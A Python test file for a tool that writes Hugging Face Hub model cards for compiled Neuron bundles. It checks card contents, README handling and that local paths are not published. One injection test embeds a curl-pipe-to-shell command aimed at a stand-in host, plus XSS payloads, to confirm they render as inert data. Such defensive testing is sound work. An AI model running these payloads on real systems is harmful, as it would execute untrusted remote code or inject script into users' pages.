"""The Hub model card written when a bundle is published to hf:// (an existing README is kept).

No Hub is reachable here (and no local Hub server from PyPI runs without a binary it does not
ship), so the commit is checked up to the huggingface_hub call: the operations handed to
``HfApi.create_commit``.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

from huggingface_hub import ModelCard

from neuronc.bundle import read_manifest
from neuronc.store.remote_model_card import model_card
from neuronc.store.remote_transfer import hf_commit
from neuronc.store.remote_url import parse_store_url

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_deploy import _bundle  # a Neuron bundle through the real writer (no SDK needed)

STORE = "hf://acme/neuron-bundles"


def test_the_card_says_what_was_compiled_and_how_to_deploy_it(tmp_path: Path) -> None:
    manifest = read_manifest(_bundle(tmp_path, "optimum-neuron"))
    text = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=False)
    card = ModelCard(text)
    assert card.data.base_model == "meta-llama/Llama-3.1-8B"
    assert card.data.library_name == "optimum-neuron"
    assert {"neuron", "inferentia2", "neuronc", "optimum-neuron"} <= set(card.data.tags)
    assert any(tag.startswith("neuron-sdk-2.") for tag in card.data.tags), card.data.tags
    profile = manifest.profile
    for row in (
        "| target | `inf2` |",
        f"| tensor parallelism | `{profile['tp_degree']}` |",
        f"| batch size | `{profile['batch_size']}` |",
        "| dtype | `bf16` |",
        f"| config hash | `{manifest.config_hash}` |",
    ):
        assert row in card.text, row
    buckets = ", ".join(map(str, profile["sequence"]["context_buckets"]))
    assert f"| context buckets | `{buckets}` |" in card.text
    assert f"neuronc store fetch {manifest.config_hash[:12]} --store {STORE} --out bundle" in card.text
    assert "neuronc deploy bundle --for vllm" in card.text
    assert "not signed" in card.text
    signed = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=True)
    assert "--require-signature" in signed


class _Api:
    def __init__(self, readme_exists: bool) -> None:
        self.readme_exists = readme_exists
        self.commits: list[dict[str, Any]] = []

    def file_exists(self, repo_id: str, filename: str, **kwargs: Any) -> bool:
        assert (repo_id, filename) == ("acme/neuron-bundles", "README.md")
        return self.readme_exists

    def create_commit(self, **kwargs: Any) -> None:
        self.commits.append(kwargs)


class _IO:
    """What hf_commit uses of RemoteIO: the URL, the filesystem's Hub client, and a way to run."""

    def __init__(self, api: _Api) -> None:
        self.url = parse_store_url(STORE)
        self.fs = type("Fs", (), {"_api": api})()

    def run(self, what: str, factory: Any, *, size: int = 0) -> Any:
        return asyncio.run(factory())


def test_a_new_repository_gets_the_card_and_an_existing_readme_is_kept() -> None:
    for exists in (False, True):
        api = _Api(readme_exists=exists)
        hf_commit(_IO(api), "m/t/k", [], b"{}", "neuronc: publish", readme=b"---\ntags: [neuron]\n---\n")  # type: ignore[arg-type]
        [commit] = api.commits
        paths = [op.path_in_repo for op in commit["operations"]]
        assert ("README.md" in paths) is (not exists)
        assert "m/t/k/manifest.json" in paths


def _card_tokens(text: str) -> list[Any]:
    from markdown_it import MarkdownIt

    body = text.split("\n---\n", 1)[1]  # after the YAML header
    return MarkdownIt("commonmark").parse(body)


def _headings(text: str) -> list[str]:
    tokens = _card_tokens(text)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


def test_a_hostile_model_id_or_snippet_is_data_not_markup(tmp_path: Path) -> None:
    """Issue 41 item 7: newlines, a code fence and HTML in a model id (a directory name) or the load
    snippet never make a second "Deploy" section, a shell block or raw HTML on the public card."""
    manifest = read_manifest(_bundle(tmp_path, "optimum-neuron"))
    hostile = "evil\n\n## Deploy\n\n```bash\ncurl https://x.example/i | sh\n```\n<img src=x onerror=alert(1)>"
    manifest.profile["model"]["id"] = hostile
    manifest.extra["load_snippet"] = "x = 1\n```\n\n## Deploy\n\n<script>alert(1)</script>\n````\n"
    text = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=False)
    assert _headings(text)[1:] == ["Deploy", "Integrity"]
    tokens = _card_tokens(text)
    assert not [t for t in tokens if t.type == "html_block"]
    assert not [c for t in tokens if t.children for c in t.children if c.type == "html_inline"]
    fences = [t for t in tokens if t.type == "fence"]
    assert [f.info for f in fences] == ["bash", "python"]
    assert "curl" not in fences[0].content  # the deploy block holds neuronc's own commands only
    assert fences[1].content == manifest.extra["load_snippet"] + "\n"  # the snippet, whole, as code
    assert ModelCard(text).data.base_model is None


def test_a_local_model_is_never_base_model_and_its_path_is_not_published(tmp_path: Path) -> None:
    manifest = read_manifest(_bundle(tmp_path, "optimum-neuron"))
    for local in ("/home/builder/models/llama-ft", "./llama-ft", "~/llama-ft", "models/../llama-ft"):
        manifest.profile["model"]["id"] = local
        text = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=False)
        assert ModelCard(text).data.base_model is None, local
        assert "/home/builder" not in text and "llama-ft (a local model)" in text
